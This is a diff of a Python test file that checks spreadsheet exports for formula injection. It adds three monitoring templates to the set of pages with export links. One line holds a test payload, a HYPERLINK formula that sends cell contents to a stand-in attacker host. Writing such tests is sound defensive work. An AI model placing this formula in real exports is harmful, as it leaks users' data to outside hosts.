@@ -18,7 +18,14 @@ ROOT = Path(__file__).resolve().parents[2]
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 # Every export a page offers: (url name, format). test_every_export_link_is_tested keeps it complete.
 EXPORTS = [("budgets:overview", "csv"), ("budgets:overview", "xlsx"), ("people:directory", "csv")]
-TEMPLATES_WITH_EXPORTS = {"budgets/overview.html", "people/partials/directory_results.html"}
+# Monitoring's downloads are checked in tests/monitoring/test_pages.py (formula-looking names defused).
+TEMPLATES_WITH_EXPORTS = {
+    "budgets/overview.html",
+    "people/partials/directory_results.html",
+    "monitoring/partials/metrics_table.html",
+    "monitoring/partials/people.html",
+    "monitoring/partials/breakdown.html",
+}
 
 
 @pytest.mark.parametrize("start", FORMULA_STARTS)
